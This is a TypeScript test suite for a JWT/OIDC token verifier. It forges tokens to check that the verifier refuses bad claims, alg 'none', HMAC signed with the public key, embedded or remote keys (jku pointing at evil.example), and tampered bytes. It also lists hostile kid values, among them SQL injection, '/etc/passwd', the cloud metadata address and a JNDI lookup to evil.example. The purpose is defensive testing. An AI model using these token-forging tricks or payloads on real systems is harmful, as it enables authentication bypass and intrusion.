import { createHmac, createPublicKey, randomBytes } from 'node:crypto';
import { createServer } from 'node:http';
import { exportJWK, generateKeyPair, type JWK } from 'jose';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { forgeToken, makeKey, publicPart, startOidcProvider, type TestIssuer } from '../support/oidc-provider.ts';
import { listenOn } from '../support/upstreams/listen-on.ts';
import { makeVerifier, type TestVerifier, triage } from './verifier.ts';

let login: TestIssuer;
let verifier: TestVerifier;
beforeAll(async () => {
  login = await startOidcProvider('RS256');
  verifier = makeVerifier({ issuer: login.issuer });
  // The keys are fetched by the allow twin of everything below.
  expect(await verifier.outcome(await login.forge({ aud: triage }))).toBe(`oauth:${login.issuer}#somebody`);
});
afterAll(async () => {
  await Promise.all([verifier.close(), login.close()]);
});

const nowS = () => Math.floor(Date.now() / 1000);
const encode = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const claims = () => ({ iss: login.issuer, sub: 'somebody', aud: triage, iat: nowS(), exp: nowS() + 300 });

/** A token with any header, under a signature that is right for the key. */
function sign(header: Record<string, unknown>, payload: unknown, key = login.key): Promise<string> {
  return forgeRaw(encode(header), encode(payload), key);
}

async function forgeRaw(head: string, body: string, key: JWK): Promise<string> {
  const { createPrivateKey, sign: signBytes } = await import('node:crypto');
  const bytes = Buffer.from(`${head}.${body}`);
  return `${head}.${body}.${signBytes('sha256', bytes, createPrivateKey({ key: key as never, format: 'jwk' })).toString('base64url')}`;
}

const good = () => ({ alg: 'RS256', typ: 'at+jwt', kid: login.key.kid });

describe('OA-01: claims', () => {
  test.each<[string, () => Record<string, unknown>, string | undefined]>([
    ['none changed', () => ({}), undefined],
    ['a wrong audience', () => ({ aud: 'https://else.example/mcp' }), 'another address'],
    ['a prefix of the audience', () => ({ aud: triage.slice(0, -1) }), 'another address'],
    ['an audience with more behind it', () => ({ aud: `${triage}/x` }), 'another address'],
    ['no audience', () => ({ aud: undefined }), '"aud"'],
    ['an audience that is an object', () => ({ aud: { 0: triage } }), 'another address'],
    ['audiences in a list in a list', () => ({ aud: [[triage]] }), 'another address'],
    ['the audience among others', () => ({ aud: ['x', triage] }), undefined],
    ['an unknown issuer', () => ({ iss: 'https://login.example.com' }), 'not trusted here'],
    ['an issuer with a slash', () => ({ iss: `${login.issuer}/` }), 'not trusted here'],
    ['no issuer', () => ({ iss: undefined }), 'not trusted here'],
    ['an issuer that every object has', () => ({ iss: 'constructor' }), 'not trusted here'],
    ['issuers in a list', () => ({ iss: [login.issuer] }), 'not trusted here'],
    ['an expiry in the past', () => ({ exp: nowS() - 31 }), 'has expired'],
    ['an expiry within the tolerance', () => ({ exp: nowS() - 25 }), undefined],
    ['no expiry', () => ({ exp: undefined }), '"exp"'],
    ['an expiry that is text', () => ({ exp: String(nowS() + 300) }), '"exp"'],
    ['a beginning ahead', () => ({ nbf: nowS() + 40 }), 'not valid yet'],
    ['a beginning within the tolerance', () => ({ nbf: nowS() + 20 }), undefined],
    ['a birth ahead', () => ({ iat: nowS() + 40 }), 'not valid yet'],
    ['a birth long ago', () => ({ iat: nowS() - 86_400 - 40 }), 'issued too long ago'],
    ['no birth', () => ({ iat: undefined }), '"iat"'],
    ['nobody', () => ({ sub: undefined }), '"sub"'],
    ['an empty somebody', () => ({ sub: '' }), '"sub"'],
    ['a somebody that is a number', () => ({ sub: 7 }), '"sub"'],
    ['a somebody with half a character', () => ({ sub: 'a\ud800' }), '"sub"'],
    ['a somebody of 600 characters', () => ({ sub: 'x'.repeat(600) }), '"sub"'],
    ['a somebody of 500 signs that are written in three', () => ({ sub: '%'.repeat(500) }), 'more than 512'],
    ['a key that it is bound to', () => ({ cnf: { jkt: 'x' } }), 'bound to a key'],
  ])('%s', async (_name, changed, part) => {
    const outcome = await verifier.outcome(await sign(good(), { ...claims(), ...changed() }));
    if (part === undefined) expect(outcome).toBe(`oauth:${login.issuer}#somebody`);
    else expect(outcome).toMatch(new RegExp(`^unauthenticated: .*${part}`));
  });

  test.each<[string, string, Record<string, unknown>, boolean]>([
    ['a marked access token with a nonce', 'at+jwt', { nonce: 'n' }, true],
    ['a plain token with a nonce and scopes', 'JWT', { nonce: 'n', scope: 'triage' }, true],
    ['a plain token with a nonce alone', 'JWT', { nonce: 'n' }, false],
    ['a plain token with a hash of an access token', 'JWT', { at_hash: 'h', scope: 'triage' }, false],
    ['a plain token that says it is a bearer token', 'JWT', { typ: 'Bearer' }, true],
    ['a plain token that says it is an ID token', 'JWT', { typ: 'ID', scope: 'triage' }, false],
    ['a plain token that says it refreshes', 'JWT', { typ: 'Refresh' }, false],
    ['a security event', 'JWT', { events: {} }, false],
    ['a logout token', 'logout+jwt', { events: {} }, false],
    ['a proof of possession', 'dpop+jwt', {}, false],
    ['an access token in capitals', 'Application/AT+JWT', {}, true],
  ])('%s: taken %s', async (_name, typ, changed, isTaken) => {
    const outcome = await verifier.outcome(await sign({ ...good(), typ }, { ...claims(), ...changed }));
    expect(outcome.startsWith('oauth:')).toBe(isTaken);
    if (!isTaken) expect(outcome).toMatch(/^unauthenticated: This is .*another kind/);
  });
});

describe('OA-01: headers and signatures', () => {
  test('no signature at all is none', async () => {
    const [head = '', body = '', signature = ''] = (await sign(good(), claims())).split('.');
    for (const alg of ['none', 'None', 'NONE', '', null, undefined, ['RS256'], { RS256: 1 }, 'constructor']) {
      for (const end of ['', signature])
        expect(await verifier.outcome(`${encode({ ...good(), alg })}.${body}.${end}`)).toMatch(/^unauthenticated/);
    }
    expect(await verifier.outcome(`${head}.${body}.`)).toMatch(/^unauthenticated/);
    expect(await verifier.outcome(`${head}.${body}.${signature}`)).toMatch(/^oauth/);
  });

  test('the public key is no shared secret', async () => {
    const jwk = publicPart(login.key);
    const pem = createPublicKey({ key: jwk as never, format: 'jwk' });
    const secrets = [
      pem.export({ type: 'spki', format: 'pem' }),
      pem.export({ type: 'pkcs1', format: 'pem' }),
      pem.export({ type: 'spki', format: 'der' }),
      JSON.stringify(jwk),
      String(jwk.n),
      Buffer.from(String(jwk.n), 'base64url'),
    ];
    for (const alg of ['HS256', 'HS384', 'HS512']) {
      for (const secret of secrets) {
        const input = `${encode({ ...good(), alg })}.${encode(claims())}`;
        const mac = createHmac(alg.replace('HS', 'sha'), secret).update(input).digest('base64url');
        expect(await verifier.outcome(`${input}.${mac}`)).toMatch(/^unauthenticated: .*RS256, ES256, EdDSA, PS256/);
      }
    }
  });

  test('a key that comes with the token proves nothing', async () => {
    const own = await makeKey('RS256');
    for (const extra of [
      { jwk: publicPart(own) },
      { jku: 'https://evil.example/jwks' },
      { x5u: 'https://evil.example' },
      { x5c: ['x'] },
    ]) {
      expect(await verifier.outcome(await sign({ ...good(), ...extra }, claims(), own))).toContain(
        'signature of this token is wrong',
      );
      expect(await verifier.outcome(await sign({ ...good(), kid: own.kid, ...extra }, claims(), own))).toContain(
        'does not publish',
      );
      expect(await verifier.outcome(await sign({ ...good(), ...extra }, claims()))).toMatch(/^oauth/);
    }
  });

  test('an algorithm that the issuer is not trusted with is refused, although its key would do', async () => {
    const input = `${encode({ ...good(), alg: 'RS512' })}.${encode(claims())}`;
    const { createPrivateKey, sign: signBytes } = await import('node:crypto');
    const key = createPrivateKey({ key: login.key as never, format: 'jwk' });
    const token = `${input}.${signBytes('sha512', Buffer.from(input), key).toString('base64url')}`;
    expect(await verifier.outcome(token)).toContain('not signed with an algorithm');
  });

  test.each([[['exp']], [['b64']], [[]], ['b64'], [null], [{}]])('crit: %j is refused', async (crit) => {
    expect(await verifier.outcome(await sign({ ...good(), crit, b64: true }, claims()))).toContain('"crit"');
    expect(await verifier.outcome(await sign({ ...good(), b64: true }, claims()))).toMatch(/^oauth/);
  });

  test('8192 characters are taken, one more is not', async () => {
    const fill = async (length: number) => sign(good(), { ...claims(), fill: 'x'.repeat(length) });
    const base = (await fill(3)).length;
    const longest = await fill(3 + Math.floor((8192 - base) / 4) * 3);
    expect(longest.length).toBeLessThanOrEqual(8192);
    expect(longest.length).toBeGreaterThan(8185);
    expect(await verifier.outcome(longest)).toMatch(/^oauth/);
    expect(() => verifier.verify(`${longest}${'x'.repeat(8193 - longest.length)}`, triage)).toThrow('longer than 8192');
    expect(() => verifier.verify('x'.repeat(50_000_000), triage)).toThrow('longer than 8192');
  });

  test('a changed byte anywhere is noticed', async () => {
    const token = await sign(good(), claims());
    for (let at = 0; at < token.length; at += 7) {
      const changed = token.charAt(at) === 'A' ? 'B' : 'A';
      expect(await verifier.outcome(token.slice(0, at) + changed + token.slice(at + 1))).toMatch(/^unauthenticated/);
    }
    expect(await verifier.outcome(token)).toMatch(/^oauth/);
  });

  test.each([
    "' OR 1=1 --",
    '1; DROP TABLE keys; --',
    '../../../../dev/null',
    '/dev/null',
    'file:///etc/passwd',
    'http://169.254.169.254/jwks',
    '%s%s%s%n',
    `\${jndi:ldap://evil.example/x}`,
    '{"$ne":null}',
    "return redis.call('FLUSHALL')",
    '__proto__',
    'constructor',
    'toString',
    '\u0000',
    '\r\nSet-Cookie: a=b',
    'x'.repeat(4000),
  ])('the kid %j is a name that no key has', async (kid) => {
    const fetches = login.keyFetches();
    const outcome = await verifier.outcome(await sign({ ...good(), kid }, claims()));
    expect(outcome).toMatch(/^unauthenticated: This token is signed with a key that its issuer does not publish/);
    expect(login.keyFetches() - fetches).toBeLessThanOrEqual(1);
    expect(Array.from(login.asked.keys()).every((path) => path === '/jwks' || path.startsWith('/.well-known/'))).toBe(true);
  });

  test.each([[7], [null], [['x']], [{ x: 1 }]])('the kid %j is no name', async (kid) => {
    expect(await verifier.outcome(await sign({ ...good(), kid }, claims()))).toMatch(/^unauthenticated: The "kid"/);
  });

  test("without a kid the issuer's only key is meant", async () => {
    expect(await verifier.outcome(await sign({ alg: 'RS256' }, claims()))).toMatch(/^oauth/);
  });
});

test.each([
  '',
  '.',
  '..',
  '...',
  'a.b.c',
  'eyJ.eyJ.eyJ',
  `${'.'.repeat(8000)}`,
  `${encode('{"alg":"RS256"')}.${encode('{}')}.x`,
  `${encode('[]')}.${encode('[]')}.x`,
  `${encode('null')}.${encode('null')}.x`,
  `${encode('{"alg":"RS256"}')}.${encode('['.repeat(5000))}.x`,
  `${encode('{"alg":"RS256","enc":"A256GCM"}')}.a.b.c.d`,
  "' OR 1=1 --",
  '\u0000\u0001',
  'ey🙂.ey🙂.x',
  '%s%n%x',
])('what is no token is refused: %j', async (text) => {
  expect(await verifier.outcome(text.slice(0, 8192))).toMatch(/^unauthenticated: /);
});

test('no refusal repeats what the token said', async () => {
  const secret = 'sesame-opens';
  for (const token of [
    await sign({ ...good(), kid: secret }, claims()),
    await sign({ ...good(), typ: secret }, claims()),
    await sign({ ...good(), alg: secret }, claims()),
    await sign(good(), { ...claims(), iss: secret }),
    await sign(good(), { ...claims(), aud: secret }),
    await sign(good(), { ...claims(), sub: [secret] }),
    await sign(good(), { ...claims(), exp: secret }),
  ]) {
    const outcome = await verifier.outcome(token);
    expect(outcome).toMatch(/^unauthenticated/);
    expect(outcome).not.toContain(secret);
  }
});

test('keys that are no public keys are not used', async () => {
  const [fine, withPrivate, elliptic] = await Promise.all([makeKey('RS256'), makeKey('RS256'), makeKey('ES256')]);
  const { privateKey: ed } = await generateKeyPair('EdDSA', { extractable: true });
  const edKey: JWK = { ...(await exportJWK(ed)), alg: 'EdDSA', kid: 'ed' };
  const secret = randomBytes(32);
  const server = await listenOn(
    createServer((_request, response) => {
      const shared = { kty: 'oct', k: secret.toString('base64url'), alg: 'HS256', kid: 'shared' };
      const forSealing = { ...publicPart(elliptic), use: 'enc', kid: 'sealing' };
      const junk = [
        null,
        7,
        'x',
        [],
        {},
        { kty: 7 },
        { kty: 'RSA', kid: 'broken' },
        { kty: 'EC', crv: 'P-256', x: '!', y: '!', kid: 'bent' },
      ];
      const keys = [publicPart(fine), withPrivate, shared, forSealing, publicPart(elliptic), publicPart(edKey), ...junk];
      response.end(JSON.stringify({ keys }));
    }),
  );
  const issuer = server.url.replace('/mcp', '');
  const odd = makeVerifier({ issuer, jwksUrl: `${issuer}/keys` });
  const forge = (key: JWK, header = {}) => forgeToken(key, { iss: issuer, aud: triage }, header);
  for (const key of [fine, elliptic, edKey]) expect(await odd.outcome(await forge(key))).toMatch(/^oauth/);
  for (const [key, header] of [
    [withPrivate, {}],
    [elliptic, { kid: 'sealing' }],
    [fine, { kid: 'broken' }],
    [elliptic, { kid: 'bent' }],
    // Right by name, but of another kind.
    [elliptic, { kid: fine.kid }],
    [{ kty: 'oct', k: secret.toString('base64url'), alg: 'HS256', kid: 'shared' }, {}],
  ] as const)
    expect(await odd.outcome(await forge(key, header))).toMatch(/^unauthenticated/);
  await Promise.all([odd.close(), server.close()]);
});
